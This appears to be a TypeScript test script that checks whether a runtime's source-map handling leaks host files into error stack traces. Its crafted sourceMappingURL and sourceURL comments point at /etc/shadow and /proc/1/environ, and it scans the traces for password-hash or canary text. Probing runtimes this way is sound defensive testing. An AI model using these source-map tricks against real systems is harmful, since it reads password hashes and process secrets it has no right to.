// Read a host file: a map written into the program names the host's files as what it was made from.
import * as fs from 'node:fs';

const map = { version: 3, sources: ['file:///etc/shadow', '/proc/1/environ'], names: [], mappings: 'AAAA;ACAA;AAAA;ACAA' };
const comment = `//# sourceMappingURL=data:application/json,${encodeURIComponent(JSON.stringify(map))}`;
const body = `export enum E { A }\nexport const fail = (): never => { throw new Error('here') };\n`;
const shown: string[] = [];
[comment, '//# sourceMappingURL=file:///etc/shadow', '//# sourceMappingURL=../../proc/1/environ\n//# sourceURL=/etc/shadow'].forEach((last, index) => {
  fs.writeFileSync(`map${index}.ts`, `${last}\n${body}${last}\n`);
  try {
    require(`./map${index}.ts`).fail();
  } catch (error) {
    shown.push((error as Error).stack ?? '');
  }
});
const own = shown.filter((stack) => stack.includes('/work/map')).length;
console.log(`OUTCOME: ${shown.length} traces, of the file itself: ${own}, secrets: ${/root:[*x!$]|RINGFENCE/.test(shown.join())}`);
